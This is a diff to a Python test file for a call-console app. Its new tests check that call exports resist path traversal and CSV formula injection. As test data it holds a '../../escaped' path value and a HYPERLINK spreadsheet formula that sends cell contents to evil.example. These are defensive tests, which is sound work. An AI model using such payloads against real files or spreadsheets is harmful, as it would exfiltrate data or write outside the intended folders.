@@ -22,6 +22,7 @@ from console.events import (
 from console.storage.db import open_db, write_event
 from console.storage.repository import CallRepository
 from console.tui.app import VoiceConsoleApp
+from console.tui.records import UnsafeExportName, export_calls, export_path, export_stem
 from console.tui.screens.call_record import CallRecordScreen
 from console.tui.screens.history import HistoryFilter, HistoryScreen, since_epoch
 from console.tui.widgets.latency_chart import render_latency_chart
@@ -126,13 +127,25 @@ class ExportingHistory(CallRepository):
 
 @pytest.fixture
 def history(tmp_path: Path) -> ExportingHistory:
-    db = open_db(tmp_path / "calls.db")
-    for events in CALLS.values():
+    return stored_history(tmp_path, *CALLS.values())
+
+
+def stored_history(folder: Path, *calls: list[CallEvent]) -> ExportingHistory:
+    db = open_db(folder / "calls.db")
+    for events in calls:
         for event in events:
             write_event(db, event)
     db.conn.commit()
     db.close()
-    return ExportingHistory(tmp_path / "calls.db")
+    return ExportingHistory(folder / "calls.db")
+
+
+def notes_of(app: VoiceConsoleApp) -> list[str]:
+    """What the app tells the operator, as it is told."""
+    notes: list[str] = []
+    notify = app.notify
+    app.notify = lambda message, **kw: (notes.append(message), notify(message, **kw))
+    return notes
 
 
 def history_app(history) -> VoiceConsoleApp:
@@ -303,8 +316,54 @@ async def test_one_call_exports_from_its_detail_view(history) -> None:
         await pilot.press("j")
         await wait_until(pilot, lambda: notes)
     path = Path(notes[0].rsplit(" to ", 1)[1])
-    assert notes[0].startswith("Exported 1 call to") and path.name.startswith("CAcough-")
+    # "CAcough" is no Twilio SID (CA + 32 hex), so the file is named after a digest of it.
+    assert notes[0].startswith("Exported 1 call to") and path.name.startswith("call-")
+    assert path.parent == history.exports_dir
     assert [c["call_sid"] for c in read_export(path)] == ["CAcough"]
+
+
+async def test_a_stored_sid_that_climbs_out_of_the_exports_folder_is_exported_inside_it(
+    tmp_path: Path,
+) -> None:
+    climber = "../../escaped"  # a callSid is whatever the media stream said
+    history = stored_history(tmp_path / "data", stored_call(climber, "+1555", "x", NOW, ["hi"]))
+    app = history_app(history)
+    notes = notes_of(app)
+    async with app.run_test(size=SIZE) as pilot:
+        await open_history(pilot)
+        await pilot.press("enter")
+        await wait_until(pilot, lambda: isinstance(app.screen, CallRecordScreen))
+        await pilot.press("j")
+        await wait_until(pilot, lambda: notes)
+    assert notes[0].startswith("Exported 1 call to")
+    written = json_files(tmp_path)
+    assert [p.parent for p in written] == [history.exports_dir]
+    assert written[0].name.startswith(export_stem(climber)) and ".." not in written[0].name
+
+
+def json_files(folder: Path) -> list[Path]:
+    return [p for p in folder.rglob("*") if p.is_file() and p.suffix == ".json"]
+
+
+def test_a_real_call_sid_names_its_export_and_nothing_else_leaves_the_folder(tmp_path) -> None:
+    sid = "CA" + "0123456789abcdef" * 2
+    assert export_stem(sid) == sid
+    assert export_stem(sid + "/..") != export_stem("x") and export_stem("x").startswith("call-")
+    for stem in ("../x", "a/b", "", "x" * 65):
+        with pytest.raises(UnsafeExportName):
+            export_path(tmp_path, "json", stem)
+    with pytest.raises(UnsafeExportName):
+        export_path(tmp_path, "json/../../x", "calls")
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_exported_as_text(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"call back")'
+    events = stored_call("CAformula", formula, "@SUM(A1)", NOW, ["hi"])
+    history = stored_history(tmp_path, events)
+    export_calls(history, "csv", ["CAformula"], "calls")
+    (row,) = read_export(next(history.exports_dir.glob("*.csv")))
+    assert (row["from_number"], row["profile"]) == ("'" + formula, "'@SUM(A1)")
+    assert row["to_number"] == "'+15550001111"  # a plus starts a formula too: shown as text
 
 
 async def test_a_history_without_export_says_so_instead_of_failing(tmp_path) -> None:
